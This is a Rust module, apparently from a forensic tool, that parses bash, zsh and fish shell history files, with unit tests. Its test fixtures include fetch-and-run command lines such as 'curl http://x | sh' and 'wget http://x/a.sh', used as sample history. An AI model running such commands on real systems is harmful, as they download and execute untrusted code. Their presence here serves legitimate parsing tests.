//! Shell history formats: bash, zsh (plain and extended, metafied), plain sh/ash, fish.
//!
//! - **bash:** one command per line; with `HISTTIMEFORMAT` set, each command is preceded by a
//!   `#<unix seconds>` line. A line starting with `#` that is not all digits is a command
//!   (a comment typed at the prompt).
//! - **zsh:** extended history lines are `: <start>:<elapsed>;<command>`; a command spanning
//!   several lines ends each inner line with `\`. Bytes 0x83..0x9f and 0x80+ may be *metafied*:
//!   0x83 followed by the byte XOR 0x20.
//! - **fish:** `- cmd: <command>` then `  when: <unix seconds>` (and `  paths:` lists); `\n`
//!   and `\\` are escaped inside the command.

use huoyan_core::Timestamp;

use super::HistoryEntry;

/// Longest command kept (a hostile history can hold a 100 MB line).
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;

fn text(bytes: &[u8]) -> String {
    let bytes = &bytes[..bytes.len().min(MAX_COMMAND_BYTES)];
    let bytes = bytes.strip_suffix(b"\r").unwrap_or(bytes);
    String::from_utf8_lossy(bytes).into_owned()
}

fn epoch(s: &str) -> Option<Timestamp> {
    let secs: i64 = s.trim().parse().ok()?;
    // Before 1990 or after 2100 is not a history time but a number someone typed.
    if !(631_152_000..=4_102_444_800).contains(&secs) {
        return None;
    }
    huoyan_core::time::from_unix(secs, 0)
}

/// One command per line, no timestamps (sh, ash, python, psql, redis-cli).
pub fn parse_plain(data: &[u8]) -> Vec<HistoryEntry> {
    data.split(|&b| b == b'\n')
        .enumerate()
        .filter(|(_, l)| !l.iter().all(u8::is_ascii_whitespace))
        .map(|(i, l)| HistoryEntry {
            line: i + 1,
            command: text(l),
            time: None,
        })
        .collect()
}

/// Bash history, honouring `#<epoch>` timestamp lines.
pub fn parse_bash(data: &[u8]) -> Vec<HistoryEntry> {
    let mut out = Vec::new();
    let mut pending_time = None;
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = text(raw);
        if let Some(rest) = line.strip_prefix('#') {
            if !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit()) {
                pending_time = epoch(rest);
                continue;
            }
        }
        if line.trim().is_empty() {
            continue;
        }
        out.push(HistoryEntry {
            line: i + 1,
            command: line,
            time: pending_time,
        });
    }
    out
}

/// Undoes zsh's metafication (0x83 marks a byte stored XOR 0x20).
pub fn unmetafy(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len());
    let mut iter = bytes.iter();
    while let Some(&b) = iter.next() {
        if b == 0x83 {
            if let Some(&next) = iter.next() {
                out.push(next ^ 0x20);
            }
        } else {
            out.push(b);
        }
    }
    out
}

/// Zsh history, plain or extended.
pub fn parse_zsh(data: &[u8]) -> Vec<HistoryEntry> {
    let data = unmetafy(data);
    let mut out: Vec<HistoryEntry> = Vec::new();
    let mut continuing = false;
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = text(raw);
        if continuing {
            if let Some(last) = out.last_mut() {
                if last.command.len() < MAX_COMMAND_BYTES {
                    last.command.push('\n');
                    last.command.push_str(line.trim_end_matches('\\'));
                }
            }
            continuing = line.ends_with('\\');
            continue;
        }
        if line.trim().is_empty() {
            continue;
        }
        let (time, command) = match parse_zsh_extended(&line) {
            Some((t, c)) => (t, c.to_string()),
            None => (None, line.clone()),
        };
        continuing = line.ends_with('\\');
        out.push(HistoryEntry {
            line: i + 1,
            command: command.trim_end_matches('\\').to_string(),
            time,
        });
    }
    out
}

/// `: 1700000000:0;command` → (time, command).
fn parse_zsh_extended(line: &str) -> Option<(Option<Timestamp>, &str)> {
    let rest = line.strip_prefix(": ")?;
    let (stamp, command) = rest.split_once(';')?;
    let (start, elapsed) = stamp.split_once(':')?;
    if !start.trim().bytes().all(|b| b.is_ascii_digit())
        || !elapsed.trim().bytes().all(|b| b.is_ascii_digit())
    {
        return None;
    }
    Some((epoch(start), command))
}

fn fish_unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('\\') => out.push('\\'),
                Some(other) => {
                    out.push('\\');
                    out.push(other);
                }
                None => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Fish history.
pub fn parse_fish(data: &[u8]) -> Vec<HistoryEntry> {
    let mut out: Vec<HistoryEntry> = Vec::new();
    for (i, raw) in data.split(|&b| b == b'\n').enumerate() {
        let line = text(raw);
        if let Some(cmd) = line.strip_prefix("- cmd:") {
            out.push(HistoryEntry {
                line: i + 1,
                command: fish_unescape(cmd.trim_start()),
                time: None,
            });
        } else if let Some(when) = line.trim_start().strip_prefix("when:") {
            if let Some(last) = out.last_mut() {
                last.time = epoch(when);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bash_with_timestamps_and_comments() {
        let h = parse_bash(
            b"ls\n#1700000000\nwget http://x/a.sh\n#not-a-time\n\n#1700000100\r\nid\r\n",
        );
        assert_eq!(h.len(), 4);
        assert_eq!(h[0].time, None);
        assert_eq!(h[1].command, "wget http://x/a.sh");
        assert_eq!(h[1].line, 3);
        assert_eq!(h[1].time.map(|t| t.as_second()), Some(1_700_000_000));
        assert_eq!(h[2].command, "#not-a-time");
        assert_eq!(h[3].command, "id");
        assert_eq!(h[3].time.map(|t| t.as_second()), Some(1_700_000_100));
    }

    #[test]
    fn zsh_extended_multiline_and_metafied() {
        let mut data = b": 1700000000:0;echo one\n: 1700000005:2;for i in 1 2\\\ndo echo $i\\\ndone\nplain command\n".to_vec();
        // metafied 0x83 0xA3 → 0x83 ^ ... : "caf\u{e9}" is c3 a9 in UTF-8; 0xa9 stays, test 0x83 byte
        data.extend_from_slice(b": 1700000009:0;echo \x83\xa3\n");
        let h = parse_zsh(&data);
        assert_eq!(h.len(), 4);
        assert_eq!(h[0].command, "echo one");
        assert_eq!(h[0].time.map(|t| t.as_second()), Some(1_700_000_000));
        assert_eq!(h[1].command, "for i in 1 2\ndo echo $i\ndone");
        assert_eq!(h[2].command, "plain command");
        assert_eq!(h[2].time, None);
        assert_eq!(h[3].line, 6);
        assert_eq!(unmetafy(b"\x83\xa3"), vec![0x83]);
    }

    #[test]
    fn fish_records() {
        let h = parse_fish(
            b"- cmd: curl http://x | sh\n  when: 1700000000\n  paths:\n    - /tmp\n- cmd: echo a\\nb\n  when: 1700000050\n",
        );
        assert_eq!(h.len(), 2);
        assert_eq!(h[0].command, "curl http://x | sh");
        assert_eq!(h[0].time.map(|t| t.as_second()), Some(1_700_000_000));
        assert_eq!(h[1].command, "echo a\nb");
    }

    #[test]
    fn garbage_and_truncated_input() {
        for data in [
            &b""[..],
            b"\xff\xfe\x00\x83",
            b": 17000",
            b": x:y;z",
            b"- cmd:",
            b"  when: 99999999999999999999",
            b"#",
        ] {
            let _ = parse_bash(data);
            let _ = parse_zsh(data);
            let _ = parse_fish(data);
            let _ = parse_plain(data);
        }
        let long = vec![b'a'; MAX_COMMAND_BYTES * 2];
        assert_eq!(parse_plain(&long)[0].command.len(), MAX_COMMAND_BYTES);
    }
}
